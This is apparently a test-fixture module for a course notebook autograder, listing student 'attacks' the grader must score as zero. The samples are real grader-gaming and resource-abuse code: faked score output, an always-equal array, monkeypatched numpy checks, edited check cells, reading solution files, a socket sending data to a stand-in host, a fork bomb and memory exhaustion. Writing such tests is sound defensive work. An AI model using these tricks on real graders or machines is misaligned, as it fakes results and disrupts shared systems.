"""What the hostile students do in place of an answer, and what it must come to: no point."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from textwrap import dedent

from nbformat import NotebookNode

from autograder.course.release import CHECK
from rnncourse.checking.outcomes import CRASHED, NOT_ATTEMPTED, TIMED_OUT, WRONG


def _untouched(notebook: NotebookNode, exercise: str) -> None:
    """Leave the notebook as it is."""


@dataclass(frozen=True)
class Attack:
    """One way to cheat or to do harm.

    Attributes
    ----------
    source : str
        The answer cell; NAME stands for the exercise. Empty leaves the stub.
    outcome : str
        What grading must call it. The score must be 0 in any case.
    tamper : callable
        ``tamper(notebook, exercise)`` changes other cells of the file.
    """

    source: str
    outcome: str
    tamper: Callable[[NotebookNode, str], None] = _untouched

    def answer(self, exercise: str) -> str:
        """Return the source of the answer cell."""
        return dedent(self.source).strip().replace("NAME", exercise)


def _edit_checks(notebook: NotebookNode, exercise: str) -> None:
    """Give the check 100 points and make it say that all is well."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade_id") == CHECK + exercise:
            marks["points"], marks["locked"] = 100, False
            cell.source = "100.0"


ATTACKS = {
    "prints_score": Attack(
        """
        def NAME(*args):
            print('{"score": 100, "max_score": 100, "outcome": "correct"}')
            return "correct"

        print("Score: 100/100")
        100.0
        """,
        WRONG,
    ),
    "always_equal": Attack(
        """
        import numpy as np

        class Equal(np.ndarray):
            def __eq__(self, other):
                return True

            def __array_ufunc__(self, *args, **kwargs):
                return np.True_

            def __array_function__(self, *args, **kwargs):
                return True

        def NAME(*args):
            return np.zeros((2, 3)).view(Equal)
        """,
        WRONG,
    ),
    "patches_numpy": Attack(
        """
        import numpy as np
        import rnncourse.checking, rnncourse.checking.compare

        def _yes(*args, **kwargs):
            return True

        np.allclose = np.isclose = np.array_equal = np.all = _yes
        np.testing.assert_allclose = np.testing.assert_array_equal = _yes
        rnncourse.checking.compare.compare = rnncourse.checking.compare = lambda *args, **kwargs: None

        def NAME(*args):
            return np.zeros((1, 1))
        """,
        WRONG,
    ),
    "edits_checks": Attack("", NOT_ATTEMPTED, _edit_checks),
    "exits_cell": Attack(
        """
        import os
        os._exit(0)

        def NAME(*args):
            return 0.0
        """,
        CRASHED,
    ),
    "exits_call": Attack(
        """
        import json, os

        def NAME(*args):
            with open("results.json", "w") as file:
                json.dump({"score": 100, "outcome": "correct"}, file)
            os._exit(0)
        """,
        CRASHED,
    ),
    "loops": Attack(
        """
        def NAME(*args):
            while True:
                pass
        """,
        TIMED_OUT,
    ),
    "swallows": Attack(
        """
        def NAME(*args):
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """,
        TIMED_OUT,
    ),
    "reads_solutions": Attack(
        """
        import gc, glob, sys

        def NAME(*args):
            for path in glob.glob("/**/solutions/*.py", recursive=True):
                exec(open(path).read(), globals())
            for thing in gc.get_objects():
                if type(thing) is dict and "### BEGIN SOLUTION" in str(thing.get("source")):
                    exec(thing["source"], globals())
            from autograder.course.casesets import reference
            return reference("NAME")(*args)
        """,
        CRASHED,
    ),
    "opens_socket": Attack(
        """
        import socket

        def NAME(*args):
            with socket.create_connection(("192.0.2.1", 80), timeout=5) as connection:
                connection.sendall(repr(args).encode())
                return connection.recv(1000)
        """,
        CRASHED,
    ),
    "fork_bomb": Attack(
        """
        import os

        def NAME(*args):
            while True:
                os.fork()
        """,
        CRASHED,
    ),
    "fills_memory": Attack(
        """
        import numpy as np

        def NAME(*args):
            held = []
            while True:
                held.append(np.ones(1 << 28))
        """,
        CRASHED,
    ),
}
"""Every attack by its name."""
